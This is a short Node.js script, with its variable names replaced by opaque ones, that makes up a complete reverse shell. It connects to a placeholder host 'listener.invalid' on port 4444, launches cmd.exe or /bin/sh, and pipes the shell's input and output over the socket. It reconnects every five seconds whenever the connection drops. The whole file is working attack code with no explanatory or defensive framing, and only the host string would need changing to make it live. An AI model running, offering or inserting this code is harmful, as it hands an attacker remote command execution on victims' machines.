var item0 = require('net');
var item1 = require('child_process');
var item2 = 'listener.invalid';
var item3 = 4444;
var item4 = 5000;
if (typeof String.prototype.contains === 'undefined') {
  String.prototype.contains = function (item6) {
    return this.indexOf(item6) !== -1;
  };
}
function item5(item7, item8) {
  var item9 = new item0.Socket();
  item9.connect(item8, item7, function () {
    var item10 = process.platform.contains('win') ? 'cmd.exe' : '/bin/sh';
    var item11 = item1.spawn(item10, []);
    item9.write('connected ' + process.pid + '\n');
    item9.pipe(item11.stdin);
    item11.stdout.pipe(item9);
    item11.stderr.pipe(item9);
    item11.on('exit', function (item12, item13) {
      item9.end('closed ' + item12 + item13 + '\n');
    });
  });
  item9.on('error', function (item14) {
    setTimeout(function () {
      item5(item7, item8);
    }, item4);
  });
  item9.on('close', function () {
    setTimeout(item5, item4, item7, item8);
  });
}
item5(item2, item3);
